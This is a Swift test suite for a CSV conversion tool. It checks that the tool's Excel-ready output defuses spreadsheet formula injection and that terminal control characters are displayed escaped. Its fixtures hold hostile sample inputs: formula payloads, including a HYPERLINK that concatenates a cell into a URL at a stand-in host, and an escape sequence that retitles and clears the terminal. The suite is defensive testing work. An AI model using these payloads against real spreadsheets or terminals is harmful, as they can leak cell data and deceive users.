import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import Testing

/// Issue 13, items 12, 13 and 16: every CSV meant for a spreadsheet is safe in Excel with `,` and
/// with `;` as list separator (checked with LibreOffice Calc in both), `excel-csv` reads back into
/// what it was written from, and nothing from the data can steer the terminal.
@Suite("Spreadsheet and terminal safety")
struct SpreadsheetAndTerminalSafetyTests {
    /// A canonical inventory with formulas everywhere a spreadsheet might find one: at the start,
    /// after a space, a no-break space or a tab, full-width, after a `,` `;` or line break, behind
    /// a quote, behind a `'` that is data, in a header; and a row with an unknown level (`=13+13`),
    /// which is rejected and reported.
    static let hostile = Canonical.layout1Header + ",Opmerking,=Kop\n"
        + "a,A,Verhuren eenheden,business-process,steering,,1,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"klik\"\")\",,,,,,,\"a,=1+1\",-5,@SUM(1)\n"
        + "b,B,Innen huur,business-process,steering,,1, =2+2,,,,,,,x;@SUM(1),＝3+3,+31 6 1234\n"
        + "c,C,Beheren sleutels,business-process,steering,,1,\u{A0}=4+4,,,,,,,\"regel\n=5+5\",'=6+6,\"a, -7\"\n"
        + "d,D,Plannen onderhoud,business-process,steering,,1,\"\t=12+12\",,,,,,,\"a,\"\"=8+8\",\"\"\"=9+9\",'al\n"
        + "e,E,\"Beheren =10+10,=11+11\",=13+13,steering,,1,x,,,,,,,y,z,w\n"

    /// The header `excel-csv` writes for it.
    static let excelHeader = "\u{FEFF}id;code;name;level;category;parent;order;owner;function;services;events;applications;next;status;description;requirements;steers;reports-to;pdca-phase;Opmerking;'=Kop\r\n"

    /// The rows `excel-csv` writes for it: a `'` before every part that starts a formula, quotes
    /// around every cell with `,` or `;`.
    static let excelRows = "a;A;Verhuren eenheden;business-process;steering;;1;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"klik\"\")\";;;;;;;\"a,'=1+1\";;;;;'-5;'@SUM(1)\r\n"
        + "b;B;Innen huur;business-process;steering;;1;' =2+2;;;;;;;\"x;'@SUM(1)\";;;;;'＝3+3;'+31 6 1234\r\n"
        + "c;C;Beheren sleutels;business-process;steering;;1;'\u{A0}=4+4;;;;;;;\"regel\n'=5+5\";;;;;''=6+6;\"a,' -7\"\r\n"
        + "d;D;Plannen onderhoud;business-process;steering;;1;'\t=12+12;;;;;;;\"a,'\"\"=8+8\";;;;;\"'\"\"=9+9\";'al\r\n"

    /// The rejected row, protected, in the input's dialect (`,`, LF).
    static let protectedRejects = Canonical.layout1Header + ",Opmerking,'=Kop\n"
        + "e,E,\"Beheren =10+10,'=11+11\",'=13+13,steering,,1,x,,,,,,,y,z,w\n"

    // MARK: 12. Excel with either list separator

    @Test("--to excel-csv puts a ' before every part that starts a formula (after blanks, full-width, after , ; or a line break) and quotes , and ; (exact bytes)")
    func excelBytes() throws {
        let scratch = try Scratch()
        try scratch.write("hostile.csv", Self.hostile)
        let run = try scratch.cora("convert", "hostile.csv", "--to", "excel-csv", "-o", "out.excel.csv", "--report", "findings.csv",
                                   "--rejects", "rejects.csv")
        #expect(run.status == 1, "\(run)")
        #expect(try scratch.read("out.excel.csv") == Array((Self.excelHeader + Self.excelRows).utf8))
        #expect(try scratch.read("rejects.csv") == Array(Self.protectedRejects.utf8))
        let report = String(decoding: try scratch.read("findings.csv"), as: UTF8.self)
        #expect(report.hasPrefix("severity,code,message,file,line,record,column,value,columnIndex,hint,sheet,cell\n"
            + "error,unknown-level,\"unknown level \"\"=13+13\"\"\",hostile.csv,7,6,level,'=13+13,4,\"accepted: "), "\(report)")
    }

    @Test("rejects are written as read, unless beside an excel-csv output: then protected too (convert and batch)")
    func rejectsBesideExcel() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        try scratch.write("in/hostile.csv", Self.hostile)
        let asRead = Canonical.layout1Header + ",Opmerking,=Kop\n" + "e,E,\"Beheren =10+10,=11+11\",=13+13,steering,,1,x,,,,,,,y,z,w\n"
        _ = try scratch.cora("convert", "in/hostile.csv", "--to", "csv", "-o", "out.csv", "--rejects", "plain.csv")
        #expect(try scratch.read("plain.csv") == Array(asRead.utf8))
        _ = try scratch.cora("batch", "in", "--out", "csv", "--to", "csv")
        #expect(try scratch.read("csv/hostile.rejects.csv") == Array(asRead.utf8))
        _ = try scratch.cora("batch", "in", "--out", "excel", "--to", "csv,excel-csv")
        #expect(try scratch.read("excel/hostile.rejects.csv") == Array(Self.protectedRejects.utf8))
        #expect(try scratch.read("excel/hostile.excel.csv") == Array((Self.excelHeader + Self.excelRows).utf8))
        _ = try scratch.cora("batch", "in", "--out", "merged", "--merge", "--to", "excel-csv")
        #expect(try scratch.read("merged/hostile.rejects.csv") == Array(Self.protectedRejects.utf8))
    }

    @Test("LibreOffice Calc with ',' and with ';' as separator finds no formula in excel-csv, the CSV report or the rejects, and reads their cells as written")
    func libreOfficeFindsNoFormula() throws {
        let scratch = try Scratch()
        try scratch.write("hostile.csv", Self.hostile)
        _ = try scratch.cora("convert", "hostile.csv", "--to", "excel-csv", "-o", "out.excel.csv", "--report", "findings.csv",
                             "--rejects", "rejects.csv")
        // The control: the same spreadsheet does run an unprotected formula, in either locale.
        try scratch.write("control.csv", "x,=1+1;=2+2\n")
        let files = ["out.excel.csv", "findings.csv", "rejects.csv", "control.csv"]
        var sheets: [String: [Int: Calc.Sheet]] = [:]
        for separator in [Calc.comma, Calc.semicolon] {
            for (file, sheet) in try Calc.open(files, in: scratch, separator: separator) { sheets[file, default: [:]][separator] = sheet }
        }
        for file in files.dropLast() {
            for separator in [Calc.comma, Calc.semicolon] {
                let sheet = try #require(sheets[file]?[separator], "\(file) with separator \(separator)")
                #expect(sheet.formulas.isEmpty, "\(file), separator \(separator): formulas \(sheet.formulas)")
            }
        }
        for separator in [Calc.comma, Calc.semicolon] {
            #expect(sheets["control.csv"]?[separator]?.formulas.count == 1, "the control runs in LibreOffice with separator \(separator)")
        }
        // With its own separator every cell is the text cora wrote.
        let excel = try #require(sheets["out.excel.csv"]?[Calc.semicolon])
        #expect(excel.rows.count == 5)
        #expect(excel.rows.first?.last == "'=Kop")
        let empty = Array(repeating: "", count: 6)
        let layout2 = Array(repeating: "", count: 4)  // requirements, steers, reports-to, pdca-phase
        #expect(Array(excel.rows.dropFirst()) == [
            ["a", "A", "Verhuren eenheden", "business-process", "steering", "", "1", "'=HYPERLINK(\"http://x.example/?\"&A1;\"klik\")"]
                + empty + ["a,'=1+1"] + layout2 + ["'-5", "'@SUM(1)"],
            ["b", "B", "Innen huur", "business-process", "steering", "", "1", "' =2+2"] + empty + ["x;'@SUM(1)"] + layout2 + ["'＝3+3", "'+31 6 1234"],
            ["c", "C", "Beheren sleutels", "business-process", "steering", "", "1", "'\u{A0}=4+4"] + empty + ["regel\n'=5+5"] + layout2
                + ["''=6+6", "a,' -7"],
            ["d", "D", "Plannen onderhoud", "business-process", "steering", "", "1", "'\t=12+12"] + empty + ["a,'\"=8+8"] + layout2
                + ["'\"=9+9", "'al"],
        ])
        let rejects = try #require(sheets["rejects.csv"]?[Calc.comma])
        #expect(rejects.rows.count == 2 && rejects.rows[0].last == "'=Kop")
        #expect(rejects.rows.last == ["e", "E", "Beheren =10+10,'=11+11", "'=13+13", "steering", "", "1", "x"] + empty + ["y", "z", "w"])
        let report = try #require(sheets["findings.csv"]?[Calc.comma])
        #expect(report.rows.count == 2)
        #expect(report.rows.last.map { Array($0.prefix(9)) } == ["error", "unknown-level", "unknown level \"=13+13\"", "hostile.csv", "7", "6", "level", "'=13+13", "4"])
    }

    // MARK: 16. excel-csv reads back

    @Test("excel-csv reads back: canonical → excel-csv → --to csv gives the canonical CSV byte for byte; its rejects are protected like it")
    func excelReadsBack() throws {
        let scratch = try Scratch()
        try scratch.write("hostile.csv", Self.hostile)
        _ = try scratch.cora("convert", "hostile.csv", "--to", "csv", "-o", "canonical.csv")
        _ = try scratch.cora("convert", "canonical.csv", "--to", "excel-csv", "-o", "model.excel.csv")
        #expect(try scratch.read("model.excel.csv") == Array((Self.excelHeader + Self.excelRows).utf8))
        let back = try scratch.cora("convert", "model.excel.csv", "--to", "csv", "-o", "back.csv")
        #expect(back.status == 0, "\(back)")
        #expect(try scratch.read("back.csv") == scratch.read("canonical.csv"))
        // The same through --mapping auto, which takes the canonical mapping for it.
        let auto = try scratch.cora("convert", "model.excel.csv", "--mapping", "auto", "--to", "csv")
        #expect(auto.stdout == (try scratch.read("canonical.csv")), "\(auto)")
        // A row of it rejected: written back as it was in the excel-csv, ' and all.
        let rejected = "e;E;\"Beheren =10+10,'=11+11\";'=13+13;steering;;1;x;;;;;;;y;z;w\r\n"
        try scratch.write("edited.excel.csv", Self.excelHeader + Self.excelRows + rejected)
        let run = try scratch.cora("convert", "edited.excel.csv", "--to", "csv", "-o", "edited.csv", "--rejects", "rejects.csv")
        #expect(run.status == 1, "\(run)")
        #expect(try scratch.read("edited.csv") == scratch.read("canonical.csv"))
        #expect(try scratch.read("rejects.csv") == Array((Self.excelHeader + rejected).utf8))
    }

    // MARK: 13. Nothing from the data steers the terminal

    /// ESC with a window title (OSC 0), BEL, CSI as one C1 character (U+009B), DEL and a
    /// right-to-left override: in a file name and in cells.
    static let steering = "\u{1B}]0;pwned\u{07}\u{9B}2J\u{7F}\u{202E}"
    /// How they are shown.
    static let steeringShown = "\\u001b]0;pwned\\u0007\\u009b2J\\u007f\\u202e"
    /// The bytes none of which may reach the terminal.
    static let forbidden: [[UInt8]] = [[0x1B], [0x07], [0x7F], [0xC2, 0x9B], [0xE2, 0x80, 0xAE]]

    static func expectNoSteering(_ bytes: [UInt8], _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for sequence in forbidden where bytes.indices.contains(where: { bytes[$0...].starts(with: sequence) }) {
            Issue.record("\(what) holds the bytes \(sequence):\n\(String(decoding: bytes, as: UTF8.self))", sourceLocation: sourceLocation)
        }
    }

    @Test("control characters and bidi overrides in a file name and in cells reach no terminal: validate, inspect and batch show them escaped")
    func terminalSeesNoControls() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        let file = "in/inv" + Self.steering + ".csv"
        let shownFile = "in/inv" + Self.steeringShown + ".csv"
        try scratch.write(file, Canonical.document(
            Canonical.row("a", "A", "Beëindigen huur" + Self.steering),
            Canonical.row("b", "B", "Innen huur", level: "x" + Self.steering)))

        let validate = try scratch.cora("validate", file, "--mapping", "canonical")
        #expect(validate.status == 1, "\(validate)")
        Self.expectNoSteering(validate.stderr, "validate's standard error")
        #expect(validate.stderrLines.first == "\(shownFile):3:4: error: unknown level \"x\(Self.steeringShown)\" (column \"level\") [unknown-level]",
                "\(validate)")

        let inspect = try scratch.cora("inspect", file)
        Self.expectNoSteering(inspect.stdout + inspect.stderr, "inspect's output")
        #expect(inspect.stdoutText.hasPrefix("file:        \(shownFile)\n"), "\(inspect)")
        #expect(inspect.stdoutText.contains("  Beëindigen huur\(Self.steeringShown)\n"), "\(inspect)")

        let batch = try scratch.cora("batch", "in", "--out", "out")
        #expect(batch.status == 1, "\(batch)")
        Self.expectNoSteering(batch.stdout + batch.stderr, "batch's output")
        #expect(batch.stdoutText.contains("inv\(Self.steeringShown).csv  errors"), "\(batch)")
        #expect(batch.stderrText.contains("] \(shownFile): errors (canonical; 2 rows, 1 process, 1 error)\n"), "\(batch)")

        // Data for programs keeps every character: the JSON report, inspect --records, the CSV.
        _ = try scratch.cora("validate", file, "--report", "report.json")
        let report = String(decoding: try scratch.read("report.json"), as: UTF8.self)
        #expect(report.contains("\"file\": \"\(file.replacingOccurrences(of: "\u{1B}", with: "\\u001b").replacingOccurrences(of: "\u{07}", with: "\\u0007"))\""), "\(report)")
        let records = try scratch.cora("inspect", file, "--records")
        #expect(records.stdoutText.contains("a,A,Beëindigen huur\(Self.steering),"), "\(records)")
        let csv = try scratch.cora("convert", file, "--keep-invalid")
        #expect(csv.stdoutText.contains("Beëindigen huur\(Self.steering),"), "\(csv)")
    }

    // MARK: LibreOffice Calc

    /// LibreOffice Calc, headless: opens CSV files with a given separator and saves them as flat
    /// ODF (`.fods`), whose cells and formulas are read back here.
    enum Calc {
        static let comma = 44
        static let semicolon = 59

        /// The cells of a sheet, row by row (trailing empty cells and rows left out), and the
        /// formulas of any cell that has one.
        struct Sheet {
            var rows: [[String]] = []
            var formulas: [String] = []
        }

        /// Opens `files` (in `scratch`) in one run of LibreOffice with `separator` (`"` quotes,
        /// UTF-8, formulas evaluated), in a profile of its own so that runs in parallel do not meet.
        static func open(_ files: [String], in scratch: Scratch, separator: Int) throws -> [String: Sheet] {
            var sheets: [String: Sheet] = [:]
            for (file, data) in try LibreOfficeCalc.fods(files, in: scratch, filter: "\(separator),34,76,1,,0,false,false,false,false,false,-1,true", folder: "calc-\(separator)") {
                let reader = FODSReader()
                let parser = XMLParser(data: data)
                parser.delegate = reader
                #expect(parser.parse(), "\(file): the .fods is not XML")
                sheets[file] = reader.sheet
            }
            return sheets
        }

        /// Reads the first sheet of a `.fods`: `table:table-row`, `table:table-cell` (repeated as
        /// `table:number-columns-repeated` says, its `table:formula`), the text of its `text:p`
        /// paragraphs with `text:s` (spaces), `text:tab` and `text:line-break`.
        final class FODSReader: NSObject, XMLParserDelegate {
            var sheet = Sheet()
            private var row: [String]?
            private var cell: String?
            private var repeated = 1
            private var paragraphs = 0
            private var inParagraph = false
            private var tables = 0

            func parser(_ parser: XMLParser, didStartElement name: String, namespaceURI: String?, qualifiedName: String?,
                        attributes: [String: String] = [:]) {
                switch name {
                case "table:table": tables += 1
                case "table:table-row" where tables == 1: row = []
                case "table:table-cell" where row != nil, "table:covered-table-cell" where row != nil:
                    cell = ""
                    paragraphs = 0
                    repeated = min(Int(attributes["table:number-columns-repeated"] ?? "1") ?? 1, 100)
                    if let formula = attributes["table:formula"] { sheet.formulas.append(formula) }
                case "text:p" where cell != nil:
                    if paragraphs > 0 { cell! += "\n" }
                    paragraphs += 1
                    inParagraph = true
                case "text:s" where cell != nil: cell! += String(repeating: " ", count: Int(attributes["text:c"] ?? "1") ?? 1)
                case "text:tab" where cell != nil: cell! += "\t"
                case "text:line-break" where cell != nil: cell! += "\n"
                default: break
                }
            }

            func parser(_ parser: XMLParser, foundCharacters string: String) {
                if cell != nil && inParagraph { cell! += string }
            }

            func parser(_ parser: XMLParser, didEndElement name: String, namespaceURI: String?, qualifiedName: String?) {
                switch name {
                case "text:p": inParagraph = false
                case "table:table-cell", "table:covered-table-cell":
                    if let cell { row?.append(contentsOf: Array(repeating: cell, count: repeated)) }
                    cell = nil
                case "table:table-row":
                    guard var cells = row else { return }
                    while cells.last == "" { cells.removeLast() }
                    if !cells.isEmpty { sheet.rows.append(cells) }
                    row = nil
                default: break
                }
            }
        }
    }
}
